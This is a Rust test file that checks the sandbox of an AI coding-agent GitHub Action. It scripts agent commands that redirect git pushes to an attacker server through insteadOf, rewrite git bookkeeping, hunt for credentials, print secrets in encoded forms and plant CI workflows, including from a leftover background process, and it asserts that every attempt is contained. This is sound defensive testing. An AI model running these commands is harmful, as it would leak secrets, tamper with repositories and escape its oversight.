//! Containment through `deckhand action`: a command the agent runs cannot
//! redirect Deckhand's push (insteadOf in `$HOME/.gitconfig`), cannot make
//! Deckhand delete or commit outside its own repository by rewriting the
//! worktree's git bookkeeping, and finds no workspace credential in the
//! task's clone.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
mod support;

use std::path::{Path, PathBuf};

use rand::Rng;
use serde_json::json;

use common::{output, RunResult, API_KEY};
use support::github_server::GithubServer;
use support::model_server::{ModelServer, Reply};
use support::repos::{git, node_service};

const TOKEN: &str = "ghs_testtoken0123456789abcdef";
const OWNER: &str = "Codertocat";
const REPO: &str = "Hello-World";
const BRANCH: &str = "deckhand/1-add-rate-limiting-to-api-login";

struct World {
    dir: tempfile::TempDir,
    gh: GithubServer,
    model: ModelServer,
    src: PathBuf,
}

fn world(script: Vec<Reply>) -> World {
    let dir = tempfile::tempdir().unwrap();
    let src = node_service(dir.path());
    let gh = GithubServer::start(TOKEN);
    gh.add_repo(OWNER, REPO, &src);
    gh.set_permission(OWNER, REPO, "Codertocat", "admin");
    gh.add_issue(
        OWNER,
        REPO,
        "Add rate limiting to /api/login",
        "Tests for normal flow, exceeded limit, reset after window.",
        "Codertocat",
        &[],
    );
    World {
        dir,
        gh,
        model: ModelServer::start(script),
        src,
    }
}

/// The issue labelled `deckhand` (a real payload).
fn labeled(w: &World) -> PathBuf {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../shared/fixtures/webhooks/issues/09-labeled.json");
    let text = std::fs::read_to_string(&path)
        .unwrap()
        .replace("\"name\": \"bug\"", "\"name\": \"deckhand\"");
    let out = w.dir.path().join("event.json");
    std::fs::write(&out, text).unwrap();
    out
}

/// `deckhand action` as the runner starts it, with `home` as HOME and
/// `workspace` as the workspace checkout. Returns the run and its outputs.
fn action(w: &World, home: &Path, workspace: &Path) -> (RunResult, String) {
    action_with(w, home, workspace, &[])
}

fn action_with(
    w: &World,
    home: &Path,
    workspace: &Path,
    extra: &[(&str, &str)],
) -> (RunResult, String) {
    let root = w.dir.path();
    let out = root.join("output");
    std::fs::write(&out, "").unwrap();
    let mut cmd = common::deckhand_cmd(&[]);
    cmd.arg("action")
        .env("HOME", home)
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_EVENT_NAME", "issues")
        .env("GITHUB_EVENT_PATH", labeled(w))
        .env("GITHUB_REPOSITORY", format!("{OWNER}/{REPO}"))
        .env("GITHUB_WORKSPACE", workspace)
        .env("GITHUB_SERVER_URL", w.gh.server_url())
        .env("GITHUB_API_URL", w.gh.api_url())
        .env("GITHUB_RUN_ID", "4242")
        .env("GITHUB_OUTPUT", &out)
        .env("GITHUB_STEP_SUMMARY", root.join("summary"))
        .env("RUNNER_TEMP", root.join("runner-temp"))
        .env("INPUT_GITHUB_TOKEN", TOKEN)
        .env("INPUT_ANTHROPIC_API_KEY", API_KEY)
        .env("ANTHROPIC_BASE_URL", w.model.anthropic_base_url());
    for (k, v) in extra {
        cmd.env(k, v);
    }
    let result = output(cmd);
    let outputs = std::fs::read_to_string(&out).unwrap();
    (result, outputs)
}

/// Research plans; code runs `command`, then writes one file.
fn script(command: &str) -> Vec<Reply> {
    vec![
        Reply::tool("update_spec", json!({"plan": ["Create src/limit.js"]})),
        Reply::text("Planned."),
        Reply::tool("run_command", json!({"command": command})),
        Reply::tool(
            "write_file",
            json!({"path": "src/limit.js", "content": "module.exports = 1;\n"}),
        ),
        Reply::text("Created the file."),
    ]
}

/// Every tool result the model was sent, as one text.
fn model_saw(w: &World) -> String {
    w.model.requests().iter().map(|r| r.body.clone()).collect()
}

#[test]
fn a_command_cannot_redirect_the_push_or_the_worktree_bookkeeping() {
    // The attacker's server holds the same repository.
    let attacker = GithubServer::start("attacker-token");
    let probe = tempfile::tempdir().unwrap();
    let victim = probe.path().join("victim");
    std::fs::create_dir_all(&victim).unwrap();
    std::fs::write(victim.join("keep.txt"), "keep\n").unwrap();
    let other = support::repos::commit_tree(&probe.path().join("other"), &[("a.txt", "a\n")]);
    let other_head = git(&other, &["rev-parse", "HEAD"]);

    let home = probe.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    // The runner's home already has a .gitconfig (safe.directory and such).
    std::fs::write(home.join(".gitconfig"), "[safe]\n\tdirectory = *\n").unwrap();
    // Each step runs whatever the one before did, and says how it went in
    // its output (`step''-…` keeps the marker out of the command's own text).
    let command = format!(
        "git config --global url.{att}/.insteadOf {real}/ && echo step''-rewrite-ok; \
         printf '%s\\n' '{victim}/.git' > \"$(git rev-parse --absolute-git-dir)/gitdir\" && echo step''-gitdir-ok; \
         printf 'gitdir: %s\\n' '{other}/.git' > .git && echo step''-pointer-ok",
        att = attacker.server_url(),
        real = "SERVER",
        victim = victim.display(),
        other = other.display(),
    );
    let w = world(vec![]);
    attacker.add_repo(OWNER, REPO, &w.src);
    let w = World {
        model: ModelServer::start(script(&command.replace("SERVER", &w.gh.server_url()))),
        ..w
    };
    // Where Landlock is missing a command can write Deckhand's own
    // ~/.gitconfig (with it, `--global` above lands in the command's private
    // home): plant the same rewrite there as that command would.
    std::fs::write(
        home.join(".gitconfig"),
        format!(
            "[safe]\n\tdirectory = *\n[url \"{}/\"]\n\tinsteadOf = {}/\n",
            attacker.server_url(),
            w.gh.server_url()
        ),
    )
    .unwrap();
    let workspace = w.dir.path().join("workspace");
    std::fs::create_dir_all(&workspace).unwrap();
    let (run, outputs) = action(&w, &home, &workspace);
    eprintln!("--- stdout\n{}\n--- stderr\n{}", run.stdout, run.stderr);
    // The command ran: the rewrite landed (in the command's own home under
    // Landlock), the worktree's bookkeeping was either refused or rewritten,
    // and the worktree's `.git` pointer, which the command may write, now
    // names the other repository: what Deckhand commits and cleans up must
    // not follow either.
    let saw = model_saw(&w);
    assert!(saw.contains("step-rewrite-ok"), "the attack ran: {saw}");
    assert!(
        saw.contains("step-gitdir-ok") || saw.contains("/gitdir: Permission denied"),
        "{saw}"
    );
    assert!(saw.contains("step-pointer-ok"), "{saw}");
    assert!(
        std::fs::read_to_string(home.join(".gitconfig"))
            .unwrap()
            .contains("insteadOf"),
        "the attack wrote the rewrite"
    );
    run.assert_code(0);
    assert!(outputs.contains("done"), "{outputs}");

    // The push went to the real server, and nothing reached the attacker.
    let commits = w.gh.commits(OWNER, REPO, BRANCH);
    assert!(
        commits
            .iter()
            .any(|(_, m)| m.starts_with("Add rate limiting")),
        "{commits:?}"
    );
    assert!(
        attacker.requests().is_empty(),
        "the attacker's server was contacted: {:?}",
        attacker
            .requests()
            .iter()
            .map(|r| r.path.clone())
            .collect::<Vec<_>>()
    );
    // Nothing outside was deleted, nothing committed into the other repository.
    assert_eq!(
        std::fs::read_to_string(victim.join("keep.txt")).unwrap(),
        "keep\n"
    );
    assert_eq!(git(&other, &["rev-parse", "HEAD"]), other_head);
    assert_eq!(git(&other, &["log", "--all", "--format=%H"]), other_head);
}

#[test]
fn the_workspace_credential_is_not_in_the_task_clone() {
    const WORKSPACE_TOKEN: &str = "ghs_workspacecredential0123456789";
    let probe = tempfile::tempdir().unwrap();
    let home = probe.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let w = world(script(
        "grep -rls workspacecredential \"$(git rev-parse --git-common-dir)\" . | wc -l | sed 's/^ */hits=/'",
    ));
    // What actions/checkout leaves: a full clone whose config carries the token.
    let workspace = w.dir.path().join("workspace");
    let bare = w.gh.repo_path(OWNER, REPO);
    git(
        w.dir.path(),
        &[
            "clone",
            "-q",
            &bare.display().to_string(),
            &workspace.display().to_string(),
        ],
    );
    git(
        &workspace,
        &["remote", "set-url", "origin", &w.gh.clone_url(OWNER, REPO)],
    );
    git(
        &workspace,
        &[
            "config",
            &format!("http.{}/.extraheader", w.gh.server_url()),
            &format!("AUTHORIZATION: basic {WORKSPACE_TOKEN}"),
        ],
    );
    let (run, outputs) = action(&w, &home, &workspace);
    run.assert_code(0);
    assert!(outputs.contains("done"), "{outputs}\n{}", run.stderr);
    let saw = model_saw(&w);
    assert!(saw.contains("hits=0"), "{saw}");
}

/// A random printable secret of `len` characters (no spaces: `NAME=value`
/// lines are trimmed).
fn random_secret(rng: &mut impl rand::Rng, len: usize) -> String {
    (0..len)
        .map(|_| char::from(rng.gen_range(0x21u8..=0x7e)))
        .collect()
}

#[test]
fn secrets_of_any_length_leave_in_no_form() {
    use rand::SeedableRng;
    let seed: u64 = rand::random();
    eprintln!("seed {seed}");
    let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
    let lens = [
        1,
        rng.gen_range(2..8),
        rng.gen_range(8..24),
        rng.gen_range(24..=64),
    ];
    let secrets: Vec<String> = lens.iter().map(|&n| random_secret(&mut rng, n)).collect();
    let names = ["S_ONE", "S_TWO", "S_THREE", "S_FOUR"];
    let mut command = String::from("for v in \"$S_ONE\" \"$S_TWO\" \"$S_THREE\" \"$S_FOUR\"; do ");
    command.push_str("printf '<<%s>>\\n' \"$v\" >> leaked.txt; printf '<<%s>>\\n' \"$v\"; ");
    command.push_str("printf '%s' \"$v\" | base64 -w0; echo; printf '%s' \"$v\" | od -An -tx1 | tr -d ' \\n'; echo; printf '%s' \"$v\" | rev; echo; done");
    // Attempt 1 leaves leaked.txt; the scan holds it back and verify sends
    // code back, which removes it.
    let mut replies = script(&command);
    replies.extend([
        Reply::tool("run_command", json!({"command": "rm leaked.txt"})),
        Reply::text("Removed the file with the secrets."),
    ]);
    let w = world(replies);
    let probe = tempfile::tempdir().unwrap();
    let home = probe.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let workspace = w.dir.path().join("workspace");
    std::fs::create_dir_all(&workspace).unwrap();
    let lines: String = names
        .iter()
        .zip(&secrets)
        .map(|(n, v)| format!("{n}={v}\n"))
        .collect();
    let (run, outputs) = action_with(&w, &home, &workspace, &[("INPUT_SECRETS", &lines)]);
    assert!(outputs.contains("done"), "{outputs}\n{}", run.stderr);
    let summary = std::fs::read_to_string(w.dir.path().join("summary")).unwrap_or_default();
    let model = model_saw(&w);
    // (Its message may itself be masked: a one-character secret.)
    assert_eq!(
        w.model.remaining(),
        0,
        "the scan held leaked.txt back and verify sent code back to remove it"
    );
    assert!(
        model.contains("<<***>>"),
        "the command printed the secrets, masked"
    );
    let stdout: String = run
        .stdout
        .lines()
        .filter(|l| !l.starts_with("::add-mask::"))
        .collect::<Vec<_>>()
        .join("\n");
    for secret in &secrets {
        let model_json = serde_json::to_string(&format!("<<{secret}>>")).unwrap();
        let delimited = format!("<<{secret}>>");
        for (place, text) in [
            ("model requests", &model),
            ("stdout", &stdout),
            ("stderr", &run.stderr),
        ] {
            assert!(
                !text.contains(&delimited) && !text.contains(&model_json[1..model_json.len() - 1]),
                "{secret:?} reached {place} (seed {seed})"
            );
        }
        assert!(
            w.gh.requests_mentioning(&delimited).is_empty(),
            "{secret:?} reached GitHub (seed {seed})"
        );
        // Pushed history on every ref (code branches and the memory branch),
        // the job summary and the step outputs.
        assert!(
            !w.gh.history_contains(OWNER, REPO, &delimited),
            "{secret:?} was pushed (seed {seed})"
        );
        for (place, text) in [("the job summary", &summary), ("GITHUB_OUTPUT", &outputs)] {
            assert!(
                !text.contains(&delimited),
                "{secret:?} reached {place} (seed {seed})"
            );
        }
        // Long enough not to occur by chance: the value and every form.
        if secret.len() >= 8 {
            for form in deckhand::sandbox::redact::encoded_forms(secret) {
                if form.len() < 8 {
                    continue;
                }
                assert!(
                    !model.contains(&form),
                    "{form:?} of {secret:?} reached the model (seed {seed})"
                );
                assert!(
                    !stdout.contains(&form),
                    "{form:?} reached stdout (seed {seed})"
                );
                assert!(
                    !run.stderr.contains(&form),
                    "{form:?} reached stderr (seed {seed})"
                );
                assert!(
                    w.gh.requests_mentioning(&form).is_empty(),
                    "{form:?} reached GitHub (seed {seed})"
                );
                assert!(
                    !w.gh.history_contains(OWNER, REPO, &form),
                    "{form:?} was pushed (seed {seed})"
                );
                assert!(
                    !summary.contains(&form) && !outputs.contains(&form),
                    "{form:?} reached the summary or outputs (seed {seed})"
                );
            }
        }
    }
}

/// `ghp_` and 36 characters, made at run time.
fn github_token_like() -> String {
    let mut rng = rand::thread_rng();
    let tail: String = (0..36)
        .map(|_| char::from(rng.sample(rand::distributions::Alphanumeric)))
        .collect();
    format!("ghp_{tail}")
}

#[test]
fn a_hard_coded_token_is_held_back_and_reported() {
    let token = github_token_like();
    let w = world(vec![
        Reply::tool("update_spec", json!({"plan": ["Configure the client"]})),
        Reply::text("Planned."),
        Reply::tool(
            "write_file",
            json!({"path": "src/config.js", "content": format!("// client\nmodule.exports = {{\n  token: \"{token}\",\n}};\n")}),
        ),
        Reply::tool(
            "write_file",
            json!({"path": "src/limit.js", "content": "module.exports = 1;\n"}),
        ),
        Reply::text("Configured."),
    ]);
    let probe = tempfile::tempdir().unwrap();
    let home = probe.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let workspace = w.dir.path().join("workspace");
    std::fs::create_dir_all(&workspace).unwrap();
    let (run, outputs) = action_with(&w, &home, &workspace, &[("INPUT_MAX_ATTEMPTS", "1")]);
    run.assert_code(0);
    assert!(
        outputs.contains("needs-review"),
        "{outputs}\n{}",
        run.stderr
    );
    assert!(
        run.stdout.contains("::error file=src/config.js,line=3"),
        "{}",
        run.stdout
    );
    assert!(
        !w.gh.history_contains(OWNER, REPO, &token),
        "the token was pushed"
    );
    // The rest of the change was committed and pushed.
    assert!(w.gh.history_contains(OWNER, REPO, "module.exports = 1;"));
    let pr = w.gh.pulls(OWNER, REPO);
    let body = pr[0].body.clone().unwrap_or_default();
    assert!(
        body.contains("Held back from the commit") && body.contains("src/config.js:3"),
        "{body}"
    );
    assert!(!body.contains(&token));
}

#[test]
fn a_command_cannot_change_the_workflows() {
    let w = world(script(
        "mkdir -p .github/workflows && printf 'on: push # planted-step-0042\\n' > .github/workflows/ci.yml && echo wrote",
    ));
    let probe = tempfile::tempdir().unwrap();
    let home = probe.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let workspace = w.dir.path().join("workspace");
    std::fs::create_dir_all(&workspace).unwrap();
    let (run, outputs) = action(&w, &home, &workspace);
    run.assert_code(0);
    assert!(outputs.contains("done"), "{outputs}\n{}", run.stderr);
    let saw = model_saw(&w);
    assert!(saw.contains("wrote"), "the command ran: {saw}");
    assert!(
        saw.contains(
            "changes to .github/workflows/ are not allowed for this task; they were reverted"
        ),
        "{saw}"
    );
    assert!(!w.gh.history_contains(OWNER, REPO, "planted-step-0042"));
    assert!(w.gh.history_contains(OWNER, REPO, "module.exports = 1;"));
}

/// A process `run_command` left behind (it left the command's session and
/// dropped the run's marker) writes a workflow after the command returned:
/// it is stopped before verify, and its workflow reaches no commit.
#[test]
fn a_background_process_cannot_slip_a_workflow_into_the_commit() {
    // The background writer says when its workflow is on disk.
    let (port, gate) = common::connection_gate();
    let late = common::late_workflow_writer(port);
    let w = world(script(&late));
    // "Created the file." (request 4) is answered once the workflow is
    // written: after run_command's own check, before the role's commit.
    let _arrived = w.model.hold(4, gate);
    let probe = tempfile::tempdir().unwrap();
    let home = probe.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let workspace = w.dir.path().join("workspace");
    std::fs::create_dir_all(&workspace).unwrap();
    let (run, outputs) = action_with(&w, &home, &workspace, &[("INPUT_NETWORK", "open")]);
    eprintln!("--- stderr\n{}", run.stderr);
    run.assert_code(0);
    assert!(outputs.contains("status<<"), "{outputs}");
    w.model.assert_finished();
    common::assert_late_workflow_kept_out(&w.gh, (OWNER, REPO), &run.stderr);
}
